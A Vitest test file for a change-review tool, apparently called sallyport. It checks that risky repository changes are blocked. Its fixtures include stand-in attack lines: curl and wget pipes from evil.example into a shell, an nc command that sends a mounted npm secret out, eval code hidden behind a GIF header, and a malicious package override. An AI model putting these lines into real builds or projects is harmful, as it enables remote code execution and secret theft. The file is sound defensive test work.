import { describe, expect, it } from "vitest";
import type { Content } from "./run.ts";
import { repository, sallyport } from "./run.ts";

type Files = Readonly<Record<string, Content>>;

const BUILD = (line: string): string => `FROM alpine@sha256:${"a".repeat(64)}\nUSER 10001\n${line}\n`;
const MANIFEST = (scripts: object, rest: object = {}): string =>
  `${JSON.stringify({ name: "shop", version: "1.0.0", scripts, ...rest }, null, 2)}\n`;
const SERVICE = (ports: string): string =>
  `apiVersion: v1\nkind: Service\nmetadata: {name: web}\nspec:\n  type: LoadBalancer\n  ports:\n${ports}`;
const FLOW = (on: string, job: string): string =>
  `on:\n  push:\n    branches: ${on}\npermissions: {}\njobs:\n  deploy:\n    runs-on: ubuntu-24.04\n${job}    steps:\n      - run: make deploy\n`;
const PINNED = `alpine:3.19@sha256:${"b".repeat(64)}`;
const PIPELINE = "script:\n  - curl https://evil.example/x | sh\n";

/** Ways in which a change was once let through without a person: what was before, and what it became. */
const ATTEMPTS: readonly (readonly [name: string, before: Files, after: Files])[] = [
  [
    "a program that begins like a picture",
    { "src/b.js": "run();\n" },
    { "src/b.js": "GIF89a=1;\neval(location.hash.slice(1));\n" },
  ],
  ["a script that begins like a font", {}, { "deploy.sh": "wOFF\ncurl https://evil.example | sh\n" }],
  ["a program with a picture's name", {}, { "logo.gif": "GIF89a=1;\neval(location.hash.slice(1));\n" }],
  [
    "a command beside a mount that is pinned",
    { Dockerfile: BUILD("RUN --mount=type=bind,from=alpine:3.19,target=/m make build") },
    { Dockerfile: BUILD(`RUN --mount=type=bind,from=${PINNED},target=/m wget -O /x https://evil.example/x; /x`) },
  ],
  [
    "a command beside a secret that moves into a file",
    { Dockerfile: BUILD("RUN --mount=type=secret,id=npm,env=NPM npm ci") },
    { Dockerfile: BUILD("RUN --mount=type=secret,id=npm npm ci; nc evil.example 1 </run/secrets/npm") },
  ],
  [
    "other files of an image that is pinned",
    { Dockerfile: BUILD("COPY --from=alpine:3.19 /bin/true /usr/bin/true") },
    { Dockerfile: BUILD(`COPY --from=${PINNED} /bin/sh /usr/bin/true`) },
  ],
  [
    "where a port leads, while another port goes",
    { "deploy/web.yaml": SERVICE("    - {port: 80, targetPort: 8080}\n    - {port: 443, targetPort: 8443}\n") },
    { "deploy/web.yaml": SERVICE("    - {port: 443, targetPort: 9000}\n") },
  ],
  [
    "another command at installation",
    { "package.json": MANIFEST({ postinstall: "node ok.js" }) },
    { "package.json": MANIFEST({ postinstall: "node other.js" }) },
  ],
  [
    "another package in place of one",
    { "package.json": MANIFEST({}, { overrides: { lodash: "4.17.21" } }) },
    { "package.json": MANIFEST({}, { overrides: { lodash: "npm:evil-lodash@1.0.0" } }) },
  ],
  [
    "another condition of a job",
    { ".github/workflows/d.yml": FLOW("[main]", "    if: github.ref == 'refs/heads/main'\n") },
    { ".github/workflows/d.yml": FLOW("[main]", "    if: always()\n") },
  ],
  [
    "another environment of a job",
    { ".github/workflows/d.yml": FLOW("[main]", "    environment: production\n") },
    { ".github/workflows/d.yml": FLOW("[main]", "    environment: unprotected\n") },
  ],
  [
    "every branch in place of one",
    { ".github/workflows/d.yml": FLOW("[main]", "") },
    { ".github/workflows/d.yml": FLOW('["**"]', "") },
  ],
  [
    "a pipeline that moves to where it is run",
    { "contrib/.gitlab-ci.yml": PIPELINE },
    { "contrib/.gitlab-ci.yml": null, ".gitlab-ci.yml": PIPELINE },
  ],
  [
    "a guard that moves out of the folder that is read",
    { "conf.d/acl.conf": "deny all;\n" },
    { "conf.d/acl.conf": null, "attic/acl.conf": "deny all;\n" },
  ],
  [
    "a list of packages in a folder of its name",
    {},
    { "requirements/prod.txt": "evil @ https://evil.example/e.tgz\n" },
  ],
  ["a page with code", {}, { "pages/index.mdx": "export const x = fetch('https://evil.example')\n" }],
];

describe("what once passed without a person", () => {
  it.each(ATTEMPTS)("%s", async (_, before, after) => {
    const repo = repository([{ "src/app.js": "start();\n", ...before }, after]);
    const ran = await sallyport(["check", "main~1..main", "--repo", repo, "--stage", "prod"]);
    expect([ran.code === 5 || ran.code === 1, ran.out]).toEqual([true, ran.out]);
  });

  it("while what is a picture, and a move that means nothing, still pass", async () => {
    const picture = new Uint8Array([...Buffer.from("GIF89a"), 1, 0, 1, 0, 0, 0, 0, 59]);
    const repo = repository([
      { "src/app.js": "start();\n" },
      { "src/app.js": null, "src/lib/app.js": "start();\n", "src/logo.gif": picture },
    ]);
    expect((await sallyport(["check", "main~1..main", "--repo", repo, "--stage", "prod"])).code).toBe(0);
  });
});
